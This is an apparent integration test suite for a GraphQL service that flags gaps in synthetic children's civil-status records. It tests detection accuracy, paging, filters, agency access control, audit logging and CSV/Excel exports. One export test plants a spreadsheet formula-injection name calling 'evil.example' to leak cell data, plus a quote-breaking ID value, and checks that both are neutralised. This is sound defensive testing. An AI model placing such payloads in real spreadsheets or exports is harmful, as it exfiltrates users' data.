import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { AGENCIES } from '../../src/auth/principal';
import { GAP_KINDS, type GapKind } from '../../src/subgraphs/registry/gaps/gap-rules';
import type { TruthRecord } from '../../src/synthetic/truth';
import { startTestStack, type TestStack } from './harness';

// Deadlines are measured at the synthetic population's reference date, so the truth file is the exact answer.
process.env.CHILDGRAPH_GAPS_AS_OF = '2026-11-01';

/** The gaps the generator planted in a child (src/synthetic/generator.ts), by kind. */
function plantedKinds(t: TruthRecord): Set<GapKind> {
  const kinds = new Set<GapKind>();
  if (!t.records.some((r) => r.kind === 'civil.BirthRegistration')) kinds.add('NO_BIRTH_REGISTRATION');
  if (t.planted.lateRegistration) kinds.add('LATE_BIRTH_REGISTRATION');
  if (t.personalId === null) kinds.add('NO_PERSONAL_ID');
  if (t.planted.noResidenceRegistration) kinds.add('NO_RESIDENCE_REGISTRATION');
  if (t.planted.abandonedIncompleteFile) kinds.add('ABANDONED_WITHOUT_LEGAL_FILE');
  if (t.planted.adoptionNotRegistered) kinds.add('ADOPTION_NOT_REGISTERED');
  // A personal ID contradicting sex or birth year, or an agency record with another date of birth
  // than another agency's (a child only one agency knows has nothing to disagree with).
  const shifted = t.records.some((r) => r.birthDateVariant) && t.records.length >= 2;
  if (t.planted.inconsistentPersonalId || shifted) kinds.add('IDENTITY_MISMATCH');
  return kinds;
}

const PAGE = `query Gaps($filter: GapFilter, $first: Int, $after: String) {
  civilStatusGaps(filter: $filter, first: $first, after: $after) {
    totalCount pageInfo { hasNextPage endCursor }
    edges { cursor node { child { id } kinds detectedBy since details { kind since detectedBy dueOn registeredOn daysLate approvedOn steps { step dueOn completedOn } reasons birthDates { agency birthDate } } } }
  }
}`;

interface GapNode {
  child: { id: string };
  kinds: GapKind[];
  detectedBy: string[];
  since: string;
  details: { kind: GapKind; steps: { step: string; dueOn: string; completedOn: string | null }[] | null; [key: string]: unknown }[];
}

let stack: TestStack;
beforeAll(async () => {
  stack = await startTestStack('gaps', 2500, { abandoned: 0.02, adoption: 0.03, inconsistentPersonalId: 0.02, noBirthRegistration: 0.03, birthDateVariant: 0.03 });
  await stack.refreshHub();
});
afterAll(() => stack?.close());

async function allGaps(filter: Record<string, unknown> = {}, token?: string, first = 300): Promise<{ nodes: GapNode[]; totalCount: number }> {
  const nodes: GapNode[] = [];
  let after: string | null = null;
  let totalCount = -1;
  for (let page = 0; page < 1000; page++) {
    const { body } = await stack.post({ query: PAGE, variables: { filter, first, after } }, { token: token ?? (await stack.token('JUSTICE')) });
    expect(body.errors).toBeUndefined();
    const connection = body.data!.civilStatusGaps;
    totalCount = connection.totalCount;
    nodes.push(...connection.edges.map((e: { node: GapNode }) => e.node));
    after = connection.pageInfo.endCursor;
    if (!connection.pageInfo.hasNextPage) break;
  }
  return { nodes, totalCount };
}

describe('civil-status gaps', () => {
  it('finds every planted gap and almost nothing else, per kind', async () => {
    const { nodes } = await allGaps();
    const found = new Map(nodes.map((n) => [n.child.id, new Set(n.kinds)]));
    const report: Record<string, { planted: number; found: number; truePositives: number; precision: number; recall: number }> = {};
    for (const kind of GAP_KINDS) {
      const planted = new Set(stack.truth.filter((t) => plantedKinds(t).has(kind)).map((t) => t.childId));
      const flagged = new Set([...found].filter(([, kinds]) => kinds.has(kind)).map(([id]) => id));
      const truePositives = [...flagged].filter((id) => planted.has(id)).length;
      report[kind] = { planted: planted.size, found: flagged.size, truePositives, precision: flagged.size ? truePositives / flagged.size : 1, recall: planted.size ? truePositives / planted.size : 1 };
    }
    process.stdout.write(`gap detection on ${stack.truth.length} children:\n${JSON.stringify(report, null, 1)}\n`);
    for (const kind of GAP_KINDS) {
      expect({ kind, planted: report[kind].planted > 0 }).toEqual({ kind, planted: true });
      expect({ kind, recall: report[kind].recall }).toEqual({ kind, recall: 1 });
      expect({ kind, falseShare: 1 - report[kind].precision <= 0.01 }).toEqual({ kind, falseShare: true });
    }
  });

  it('pages through the whole list in since order with no repeats or holes, and totalCount agrees', async () => {
    const { nodes, totalCount } = await allGaps({}, undefined, 97);
    const stored = await stack.dbs.registry.civilStatusGap.count();
    expect(totalCount).toBe(stored);
    expect(nodes.length).toBe(stored);
    expect(new Set(nodes.map((n) => n.child.id)).size).toBe(stored);
    const keys = nodes.map((n) => `${n.since}|${n.child.id}`);
    expect(keys).toEqual([...keys].sort());
  });

  it('filters by province, commune, kinds, age and detecting agency', async () => {
    const some = stack.truth.find((t) => plantedKinds(t).has('NO_BIRTH_REGISTRATION'))!;
    const { nodes: province } = await allGaps({ provinceCode: some.provinceCode });
    expect(province.length).toBeGreaterThan(0);
    const masters = await stack.dbs.registry.masterChild.findMany({ where: { id: { in: province.map((n) => n.child.id) } } });
    expect(masters.every((m) => m.provinceCode === some.provinceCode)).toBe(true);
    const { nodes: commune } = await allGaps({ communeCode: some.communeCode });
    expect(commune.map((n) => n.child.id)).toContain(some.childId);
    const { nodes: late } = await allGaps({ kinds: ['LATE_BIRTH_REGISTRATION', 'ADOPTION_NOT_REGISTERED'] });
    expect(late.length).toBeGreaterThan(0);
    expect(late.every((n) => n.kinds.includes('LATE_BIRTH_REGISTRATION') || n.kinds.includes('ADOPTION_NOT_REGISTERED'))).toBe(true);
    const { nodes: young } = await allGaps({ ageFrom: 0, ageTo: 2 });
    const youngest = await stack.dbs.registry.masterChild.findMany({ where: { id: { in: young.map((n) => n.child.id) } } });
    expect(youngest.length).toBeGreaterThan(0);
    expect(youngest.every((m) => m.birthDate > new Date('2023-11-01'))).toBe(true);
    const { nodes: byEducation } = await allGaps({ detectedBy: ['EDUCATION'] });
    expect(byEducation.length).toBeGreaterThan(0);
    expect(byEducation.every((n) => n.detectedBy.includes('EDUCATION'))).toBe(true);
  });

  it('says what is wrong with a bad filter or cursor', async () => {
    const token = await stack.token('JUSTICE');
    const cases: [Record<string, unknown>, RegExp][] = [
      [{ filter: { provinceCode: '99' } }, /not one of the 34 province codes/],
      [{ filter: { communeCode: '1' } }, /not a commune code/],
      [{ filter: { provinceCode: '01', communeCode: '79001' } }, /not in province 01|not a commune code/],
      [{ filter: { ageFrom: 10, ageTo: 3 } }, /ageFrom \(10\) is greater than ageTo \(3\)/],
      [{ filter: { ageTo: 40 } }, /from 0 to 17/],
      [{ filter: { kinds: [] } }, /kinds is empty/],
      [{ first: 501 }, /between 1 and 500/],
      [{ after: 'bm90LWEtY3Vyc29y' }, /not a cursor this list issued/],
    ];
    for (const [variables, message] of cases) {
      const { status, body } = await stack.post({ query: PAGE, variables }, { token });
      expect({ variables, status, code: body.errors?.[0].extensions?.code }).toEqual({ variables, status: 200, code: 'BAD_USER_INPUT' });
      expect(body.errors?.[0].message).toMatch(message);
    }
  });

  it('is JUSTICE\'s and SOCIAL\'s only, at the gateway and straight at the registry subgraph', async () => {
    const query = '{ civilStatusGaps(first: 3) { totalCount edges { node { kinds } } } }';
    for (const agency of AGENCIES) {
      for (const url of [stack.gateway.url, stack.subgraphs.registry.url]) {
        const { body } = await stack.post({ query }, { token: await stack.token(agency), url });
        const codes = (body.errors ?? []).map((e) => e.extensions?.code);
        if (agency === 'JUSTICE' || agency === 'SOCIAL') expect({ agency, url, codes, rows: body.data?.civilStatusGaps.edges.length }).toEqual({ agency, url, codes: [], rows: 3 });
        else expect({ agency, url, codes, data: body.data?.civilStatusGaps ?? null }).toEqual({ agency, url, codes: ['UNAUTHORIZED_FIELD_OR_TYPE'], data: null });
      }
    }
  });

  it('serves its feeds to the hub only, straight at each owning subgraph', async () => {
    const feeds = [
      ['civil', 'civilAdoptionFeed'], ['identity', 'identityPersonFeed'], ['identity', 'identityResidenceFeed'], ['education', 'educationPupilFeed'],
      ['health', 'healthPatientFeed'], ['protection', 'protectionProfileFeed'], ['protection', 'protectionAbandonmentFeed'],
    ] as const;
    for (const [subgraph, field] of feeds) {
      for (const agency of ['HUB', 'JUSTICE', 'SOCIAL'] as const) {
        const { body } = await stack.post({ query: `{ ${field}(first: 2) { hasMore endCursor } }` }, { token: await stack.token(agency), url: stack.subgraphs[subgraph].url });
        const codes = (body.errors ?? []).map((e) => e.extensions?.code);
        expect({ field, agency, codes, hasCursor: Boolean(body.data?.[field]?.endCursor) }).toEqual({ field, agency, codes: agency === 'HUB' ? [] : ['UNAUTHORIZED_FIELD_OR_TYPE'], hasCursor: agency === 'HUB' });
      }
    }
  });

  it('scopes to the caller\'s jurisdiction and records every released child in the audit trail', async () => {
    const some = stack.truth.find((t) => plantedKinds(t).size > 0)!;
    const token = await stack.token('SOCIAL', { jurisdiction: `province:${some.provinceCode}` });
    const { nodes, totalCount } = await allGaps({}, token);
    expect(totalCount).toBe(await stack.dbs.registry.civilStatusGap.count({ where: { provinceCode: some.provinceCode } }));
    expect(nodes.map((n) => n.child.id)).toContain(some.childId);
    const other = await allGaps({ provinceCode: some.provinceCode === '01' ? '79' : '01' }, token);
    expect(other.totalCount).toBe(0);
    const log = await stack.dbs.registry.$queryRawUnsafe<{ childIds: string[] }[]>(
      `SELECT "childIds" FROM "registry"."AccessLog" WHERE 'Query.civilStatusGaps' = ANY("fields") AND "agency" = 'SOCIAL' AND "childIds" @> ARRAY[$1]::text[]`,
      some.childId,
    );
    expect(log.length).toBeGreaterThan(0);
  });

  it('answers a page in a number of registry queries that does not grow with its size', async () => {
    const token = await stack.token('JUSTICE');
    const queries = async (first: number) => {
      const before = stack.queryCounts.registry;
      const { body } = await stack.post({ query: `{ civilStatusGaps(first: ${first}) { totalCount edges { node { kinds child { id index { fullName birthDate communeCode } } } } } }` }, { token });
      expect(body.errors).toBeUndefined();
      expect(body.data!.civilStatusGaps.edges.length).toBe(first);
      return stack.queryCounts.registry - before;
    };
    // One statement for the page, its count and the master index entries, and one access-log row.
    expect(await queries(200)).toBe(2);
    expect(await queries(5)).toBe(2);
  });

  describe('kept current by the refresh', () => {
    it('an abandoned child\'s missing step, completed on time through completeReceptionStep, leaves the list', async () => {
      const stuck = stack.truth.find((t) => t.planted.abandonedIncompleteFile?.stage === 'STUCK' && t.planted.abandonedIncompleteFile.step === 'HEALTH_INSURANCE')
        ?? stack.truth.find((t) => t.planted.abandonedIncompleteFile?.step === 'HEALTH_INSURANCE')!;
      const file = await stack.dbs.protection.abandonmentCase.findFirstOrThrow({ where: { profile: { childId: stuck.childId } }, include: { steps: true } });
      const step = file.steps.find((s) => s.step === 'HEALTH_INSURANCE')!;
      const gapOf = async () => (await stack.dbs.registry.civilStatusGap.findUnique({ where: { childId: stuck.childId } }))?.kinds ?? [];
      expect(await gapOf()).toContain('ABANDONED_WITHOUT_LEGAL_FILE');
      const { body } = await stack.post(
        { query: 'mutation($input: CompleteReceptionStepInput!) { completeReceptionStep(input: $input) { version } }', variables: { input: { caseId: file.id, step: 'HEALTH_INSURANCE', completedOn: step.dueOn.toISOString().slice(0, 10), expectedVersion: file.version } } },
        { token: await stack.token('SOCIAL') },
      );
      expect(body.errors).toBeUndefined();
      const summary = await stack.refreshHub();
      expect(summary.fullRecompute).toBe(false);
      expect(summary.feeds.find((f) => f.feed === 'protection.abandonment-files')!.rows).toBeGreaterThanOrEqual(1);
      expect(await gapOf()).not.toContain('ABANDONED_WITHOUT_LEGAL_FILE');
    });

    it('a birth registration written by the justice office\'s own system removes NO_BIRTH_REGISTRATION', async () => {
      const unregistered = stack.truth.find((t) => t.planted.noBirthRegistration && !t.planted.abandoned)!;
      expect((await stack.dbs.registry.civilStatusGap.findUniqueOrThrow({ where: { childId: unregistered.childId } })).kinds).toContain('NO_BIRTH_REGISTRATION');
      const birthDate = new Date(unregistered.birthDate);
      await stack.dbs.civil.birthRegistration.create({
        data: {
          childId: unregistered.childId, registrationNumber: '9999', registerBook: '2026/01', registeredOn: new Date('2026-10-30'), registeringCommuneCode: unregistered.communeCode,
          fullName: unregistered.fullName, birthDate, sex: unregistered.sex, placeOfBirth: 'Trạm Y tế', isLate: true,
        },
      });
      await stack.refreshHub();
      const kinds = (await stack.dbs.registry.civilStatusGap.findUnique({ where: { childId: unregistered.childId } }))?.kinds ?? [];
      expect(kinds).not.toContain('NO_BIRTH_REGISTRATION');
      expect(kinds).toContain('LATE_BIRTH_REGISTRATION');
    });

    it('a pupil record re-linked to another child moves its facts: both children are recomputed', async () => {
      const [from, to] = stack.truth.filter((t) => plantedKinds(t).size === 0 && t.records.some((r) => r.kind === 'education.Pupil' && r.hasPersonalId)).slice(0, 2);
      const pupil = await stack.dbs.education.pupil.findFirstOrThrow({ where: { childId: from.childId } });
      // The pupil record says another date of birth; linked to `to`, it contradicts to's records.
      await stack.dbs.education.pupil.update({ where: { id: pupil.id }, data: { birthDate: new Date('2011-01-01') } });
      await stack.refreshHub();
      expect((await stack.dbs.registry.civilStatusGap.findUniqueOrThrow({ where: { childId: from.childId } })).kinds).toEqual(['IDENTITY_MISMATCH']);
      await stack.dbs.education.pupil.update({ where: { id: pupil.id }, data: { childId: to.childId } });
      await stack.refreshHub();
      expect(await stack.dbs.registry.civilStatusGap.findUnique({ where: { childId: from.childId } })).toBeNull();
      expect((await stack.dbs.registry.civilStatusGap.findUniqueOrThrow({ where: { childId: to.childId } })).kinds).toContain('IDENTITY_MISMATCH');
    });

    it('a permanent residence ended in the population registry adds NO_RESIDENCE_REGISTRATION', async () => {
      const resident = stack.truth.filter((t) => plantedKinds(t).size === 0).at(-1)!; // not a child the tests above changed
      expect(await stack.dbs.registry.civilStatusGap.findUnique({ where: { childId: resident.childId } })).toBeNull();
      const person = await stack.dbs.identity.person.findFirstOrThrow({ where: { childId: resident.childId } });
      await stack.dbs.identity.residence.updateMany({ where: { personId: person.id, kind: 'PERMANENT' }, data: { endedOn: new Date('2026-10-01') } });
      await stack.refreshHub();
      const gap = await stack.dbs.registry.civilStatusGap.findUniqueOrThrow({ where: { childId: resident.childId } });
      expect(gap.kinds).toEqual(['NO_RESIDENCE_REGISTRATION']);
    });
  });

  describe('download endpoint', () => {
    const download = async (pathAndQuery: string, token: string | null, method = 'GET') => {
      const response = await fetch(new URL(pathAndQuery, stack.gateway.url), { method, headers: token ? { authorization: `Bearer ${token}` } : {} });
      return { status: response.status, type: response.headers.get('content-type'), bytes: Buffer.from(await response.arrayBuffer()) };
    };
    /** The CSV's records, BOM stripped, as csv-parse reads them (what a program importing the file sees). */
    const records = (bytes: Buffer): string[][] => parseCsv(bytes.toString('utf8').slice(1), { relax_column_count: false });
    /** A code cell written in Excel's text form: `="…"` with every quote of the value doubled. */
    const textFormula = (value: string) => `="${value.replace(/"/g, '""')}"`;

    it('streams the list as CSV with a BOM, English or Vietnamese headers and Vietnamese names intact', async () => {
      const some = stack.truth.find((t) => plantedKinds(t).size > 0 && /[^\x00-\x7f]/.test(t.fullName))!;
      const expected = await stack.dbs.registry.civilStatusGap.count({ where: { provinceCode: some.provinceCode } });
      const token = await stack.token('JUSTICE');
      const csv = await download(`/exports/civil-status-gaps.csv?provinceCode=${some.provinceCode}`, token);
      expect(csv.status).toBe(200);
      expect(csv.type).toBe('text/csv; charset=utf-8');
      expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const lines = csv.bytes.toString('utf8').slice(1).trimEnd().split('\r\n');
      expect(lines[0]).toBe('Child ID,Full name,Date of birth,Sex,Province code,Commune code,Personal ID number,Gaps,Detected by,Since');
      expect(lines.length - 1).toBe(expected);
      const master = await stack.dbs.registry.masterChild.findUniqueOrThrow({ where: { id: some.childId } });
      expect(lines.find((l) => l.startsWith(some.childId))).toContain(`,${master.fullName},`);
      const vi = await download(`/exports/civil-status-gaps.csv?provinceCode=${some.provinceCode}&kinds=NO_PERSONAL_ID,LATE_BIRTH_REGISTRATION&lang=vi`, token);
      const viLines = vi.bytes.toString('utf8').slice(1).trimEnd().split('\r\n');
      expect(viLines[0]).toBe('Mã trẻ em,Họ và tên,Ngày sinh,Giới tính,Mã tỉnh,Mã xã,Số định danh cá nhân,Thiếu sót,Cơ quan phát hiện,Từ ngày');
      expect(viLines.length).toBeGreaterThan(1);
      expect(viLines.slice(1).every((l) => /Chưa có số định danh cá nhân|Đăng ký khai sinh quá hạn/.test(l))).toBe(true);
      const log = await stack.dbs.registry.$queryRawUnsafe<{ n: number }[]>(
        `SELECT count(*)::int AS n FROM "registry"."AccessLog" WHERE "operationName" = 'Export' AND "agency" = 'JUSTICE' AND "childIds" @> ARRAY[$1]::text[]`,
        some.childId,
      );
      expect(log[0].n).toBeGreaterThan(0);
    });

    it('writes coded values as labels in the caller\'s language, codes in Excel\'s text form, dates in ISO', async () => {
      const token = await stack.token('JUSTICE');
      const [, ...vi] = records((await download('/exports/civil-status-gaps.csv?lang=vi', token)).bytes);
      const [, ...en] = records((await download('/exports/civil-status-gaps.csv?lang=en', token)).bytes);
      expect(vi.length).toBeGreaterThan(50);
      expect(vi.map((r) => r[0])).toEqual(en.map((r) => r[0]));
      const gapsVi = new Set(vi.flatMap((r) => r[7].split('; ')));
      // Every planted kind appears, each under its Vietnamese label and never as its enum code.
      expect([...gapsVi].sort()).toEqual(
        ['Chưa có số định danh cá nhân', 'Chưa đăng ký khai sinh', 'Chưa đăng ký thường trú', 'Đăng ký khai sinh quá hạn', 'Thông tin nhân thân không thống nhất',
          'Trẻ bị bỏ rơi chưa hoàn thiện hồ sơ pháp lý', 'Việc nuôi con nuôi chưa được đăng ký'].sort(),
      );
      expect(new Set(en.flatMap((r) => r[7].split('; ')))).toContain('No birth registration');
      expect(new Set(vi.map((r) => r[3]))).toEqual(new Set(['Nam', 'Nữ']));
      expect(new Set(en.map((r) => r[3]))).toEqual(new Set(['Male', 'Female']));
      expect(new Set(vi.flatMap((r) => r[8].split('; ')))).toEqual(new Set(['Công an', 'Tư pháp', 'Giáo dục', 'Y tế', 'Bảo trợ xã hội']));
      const masters = new Map((await stack.dbs.registry.masterChild.findMany({ where: { id: { in: vi.map((r) => r[0]) } } })).map((m) => [m.id, m]));
      for (const row of vi) {
        const master = masters.get(row[0])!;
        expect({ child: row[0], province: row[4], commune: row[5] }).toEqual({ child: row[0], province: textFormula(master.provinceCode), commune: textFormula(master.communeCode) });
        expect(row[6]).toMatch(/^(|="\d{12}")$/);
        expect(row[2]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      }
      // The codes that lose most: commune codes of province 01 begin with zeros.
      expect(vi.some((r) => /^="00\d{3}"$/.test(r[5]))).toBe(true);
    });

    it('keeps data that looks like a formula inert, in both a text cell and a code cell', async () => {
      const token = await stack.token('JUSTICE');
      const [, first] = records((await download('/exports/civil-status-gaps.csv', token)).bytes);
      const before = await stack.dbs.registry.masterChild.findUniqueOrThrow({ where: { id: first[0] } });
      const injectedName = '=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn An")';
      // A personal ID that would close the wrapper's string literal if its quotes were not doubled.
      const injectedId = '1"&A1&"';
      await stack.dbs.registry.masterChild.update({ where: { id: before.id }, data: { fullName: injectedName, personalId: injectedId } });
      try {
        const csv = await download('/exports/civil-status-gaps.csv', token);
        const row = records(csv.bytes).find((r) => r[0] === before.id)!;
        expect(row[1]).toBe(`'${injectedName}`);
        expect(row[6]).toBe('="1""&A1&"""');
        // One string literal from the first quote to the last: every inner quote doubled.
        expect(row[6]).toMatch(/^="(?:[^"]|"")*"$/);
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load((await download('/exports/civil-status-gaps.xlsx', token)).bytes as unknown as ArrayBuffer);
        const sheet = workbook.worksheets[0];
        let found = 0;
        sheet.eachRow((r) => {
          if (r.getCell(1).value !== before.id) return;
          found += 1;
          expect(r.getCell(2).type).toBe(ExcelJS.ValueType.String);
          expect(r.getCell(2).value).toBe(injectedName);
          expect(r.getCell(7).value).toBe(injectedId);
        });
        expect(found).toBe(1);
      } finally {
        await stack.dbs.registry.masterChild.update({ where: { id: before.id }, data: { fullName: before.fullName, personalId: before.personalId } });
      }
    });

    it('streams the same list as an Excel workbook: frozen header, autofilter, date cells, codes as text', async () => {
      const xlsx = await download('/exports/civil-status-gaps.xlsx?lang=vi&ageTo=5', await stack.token('SOCIAL'));
      expect(xlsx.status).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0];
      expect(sheet.getRow(1).getCell(2).value).toBe('Họ và tên');
      const { totalCount } = await allGaps({ ageTo: 5 }, await stack.token('SOCIAL'), 500);
      expect(sheet.actualRowCount - 1).toBe(totalCount);
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(sheet.autoFilter).toBe(`A1:J${totalCount + 1}`);
      const row = sheet.getRow(2);
      const master = await stack.dbs.registry.masterChild.findUniqueOrThrow({ where: { id: row.getCell(1).value as string } });
      expect(row.getCell(3).value).toEqual(master.birthDate);
      expect(row.getCell(3).numFmt).toBe('dd/mm/yyyy');
      expect(row.getCell(10).value).toBeInstanceOf(Date);
      expect(row.getCell(4).value).toMatch(/^(Nam|Nữ)$/);
      for (const [column, code] of [[5, master.provinceCode], [6, master.communeCode]] as const) {
        expect({ column, value: row.getCell(column).value, format: row.getCell(column).numFmt }).toEqual({ column, value: code, format: '@' });
      }
      const en = new ExcelJS.Workbook();
      await en.xlsx.load((await download('/exports/civil-status-gaps.xlsx?lang=en&ageTo=5', await stack.token('SOCIAL'))).bytes as unknown as ArrayBuffer);
      expect(en.worksheets[0].getRow(2).getCell(3).numFmt).toBe('yyyy-mm-dd');
    });

    it('refuses without a token, for a forbidden agency, and for parameters it does not know, as GraphQL errors', async () => {
      const errorOf = (bytes: Buffer) => (JSON.parse(bytes.toString()) as { errors: { message: string; extensions: { code: string } }[] }).errors[0];
      const anonymous = await download('/exports/civil-status-gaps.csv', null);
      expect({ status: anonymous.status, code: errorOf(anonymous.bytes).extensions.code }).toEqual({ status: 401, code: 'UNAUTHENTICATED' });
      const education = await download('/exports/civil-status-gaps.csv', await stack.token('EDUCATION'));
      expect(education.status).toBe(403);
      expect(errorOf(education.bytes)).toEqual({ message: expect.stringMatching(/^EDUCATION may not read Query.civilStatusGaps/), extensions: { code: 'UNAUTHORIZED_FIELD_OR_TYPE' } });
      expect(errorOf(education.bytes).message).not.toMatch(/\.md|schema\//);
      const token = await stack.token('JUSTICE');
      const cases: [string, number, string, RegExp][] = [
        ['/exports/civil-status-gaps.csv?province=01', 400, 'BAD_USER_INPUT', /unknown parameter "province"; this export takes ageFrom, ageTo, communeCode, detectedBy, kinds, provinceCode, lang/],
        ['/exports/civil-status-gaps.csv?ageTo=five', 400, 'BAD_USER_INPUT', /"ageTo" must be a whole number/],
        ['/exports/civil-status-gaps.csv?kinds=LOST', 400, 'BAD_USER_INPUT', /"LOST" is not a value of parameter "kinds"/],
        ['/exports/civil-status-gaps.csv?provinceCode=99', 400, 'BAD_USER_INPUT', /not one of the 34 province codes/],
        ['/exports/civil-status-gaps.csv?lang=fr', 400, 'BAD_USER_INPUT', /lang must be "en" or "vi"/],
        ['/exports/dropouts.csv', 404, 'NOT_FOUND', /no such export/],
      ];
      for (const [path, status, code, message] of cases) {
        const response = await download(path, token);
        expect(response.type).toBe('application/json; charset=utf-8');
        const error = errorOf(response.bytes);
        expect({ path, status: response.status, code: error.extensions.code }).toEqual({ path, status, code });
        expect(error.message).toMatch(message);
      }
      const posted = await download('/exports/civil-status-gaps.csv', token, 'POST');
      expect({ status: posted.status, code: errorOf(posted.bytes).extensions.code }).toEqual({ status: 405, code: 'METHOD_NOT_ALLOWED' });
    });
  });
});
